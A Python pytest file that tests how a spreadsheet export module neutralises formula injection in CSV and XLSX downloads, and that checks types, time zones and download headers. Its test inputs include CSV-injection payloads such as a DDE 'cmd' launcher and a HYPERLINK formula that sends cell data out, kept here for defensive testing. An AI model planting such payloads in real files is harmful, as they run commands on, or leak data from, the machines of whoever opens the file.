"""Downloads: safe to open in a spreadsheet, whatever somebody typed."""

import csv
import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from mdps.core import cells
from mdps.core.lists import Column
from mdps.core.lists.export import as_csv, as_xlsx, harmless
from mdps.core.models import User
from mdps.core.ui import Cell

COLUMNS = (
    Column("Name", lambda record: record.name),
    Column("Amount", lambda record: cells.money(record.amount), numeric=True),
    Column("Day", lambda record: cells.date(record.day)),
)


def rows(name: str = "Severn Assessments", amount: str = "1234.50") -> list[SimpleNamespace]:
    return [SimpleNamespace(name=name, amount=Decimal(amount), day=dt.date(2026, 6, 1))]


def csv_of(records: list[SimpleNamespace]) -> list[list[str]]:
    content = b"".join(as_csv(records, COLUMNS, name="list").streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_of(records: list[SimpleNamespace]) -> list[list[object]]:
    book = load_workbook(io.BytesIO(as_xlsx(records, COLUMNS, name="list").content))
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def test_amounts_and_days_are_numbers_and_dates() -> None:
    assert csv_of(rows())[1] == ["Severn Assessments", "1234.50", "2026-06-01"]
    assert xlsx_of(rows())[1] == ["Severn Assessments", 1234.5, dt.datetime(2026, 6, 1)]


def test_a_negative_amount_stays_a_number() -> None:
    assert csv_of(rows(amount="-5.00"))[1][1] == "-5.00"
    assert xlsx_of(rows(amount="-5.00"))[1][1] == -5


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1)',
    "+44 1452 000000",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_run_is_only_shown(text: str) -> None:
    assert csv_of(rows(name=text))[1][0] == f"'{text}"
    [[_, *_], [name, *_]] = xlsx_of(rows(name=text))
    assert name == f"'{text}".replace("\r", "\n")  # as XML reads it


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    content = as_xlsx(rows(name="=1+1"), COLUMNS, name="list").content
    kinds = {
        cell.data_type
        for row in load_workbook(io.BytesIO(content)).active.iter_rows()
        for cell in row
    }
    assert kinds == {"s", "n", "d"}


@pytest.mark.parametrize("text", ["a\x0bb", "a\x00b", "a\x1fb"])
def test_characters_that_a_workbook_cannot_hold_are_left_out(text: str) -> None:
    assert (csv_of(rows(name=text))[1][0], xlsx_of(rows(name=text))[1][0]) == ("ab", "ab")


def test_a_formula_hidden_behind_such_a_character_is_harmless_too() -> None:
    assert harmless("\x0b=1+1") == "'=1+1"


@pytest.mark.parametrize("text", ['say "hello"', "one, two", "first\nsecond", "Zoë £5 – ok"])
def test_text_comes_back_as_it_was(text: str) -> None:
    assert (csv_of(rows(name=text))[1][0], xlsx_of(rows(name=text))[1][0]) == (text, text)


def test_moments_are_in_london_time_without_a_zone() -> None:
    moment = dt.datetime(2026, 6, 1, 13, 30, tzinfo=ZoneInfo("UTC"))
    assert harmless(moment) == dt.datetime(2026, 6, 1, 14, 30)


def test_a_tag_is_exported_as_its_words() -> None:
    account = User(mail=User.Mail.NONE)
    assert cells.state(account, "mail").raw == "Never; only here"


def test_a_cell_is_exported_by_what_it_stands_for() -> None:
    columns = (Column("Count", lambda record: Cell("1,234", raw=1234)),)
    content = b"".join(as_csv(rows(), columns, name="list").streaming_content)
    assert content.decode("utf-8-sig").splitlines() == ["Count", "1234"]


@pytest.mark.parametrize("write", [as_csv, as_xlsx])
def test_a_download_is_named_and_kept_by_no_cache(write) -> None:
    response = write(rows(), COLUMNS, name="call-off-contracts")
    kind = "csv" if write is as_csv else "xlsx"
    assert (response["Content-Disposition"], response["Cache-Control"]) == (
        f'attachment; filename="call-off-contracts.{kind}"',
        "private, no-store",
    )


def test_a_hint_has_a_column_of_its_own_where_it_has_a_heading():
    columns = (
        Column("Service", lambda each: Cell(each.name, hint="Lot 1"), hint="Lot"),
        Column("Name", lambda each: Cell(each.name, hint="Not in the file")),
    )

    content = b"".join(as_csv(rows(name="Art therapy"), columns, name="list").streaming_content)

    assert content.decode("utf-8-sig").splitlines() == [
        "Service,Lot,Name",
        "Art therapy,Lot 1,Art therapy",
    ]
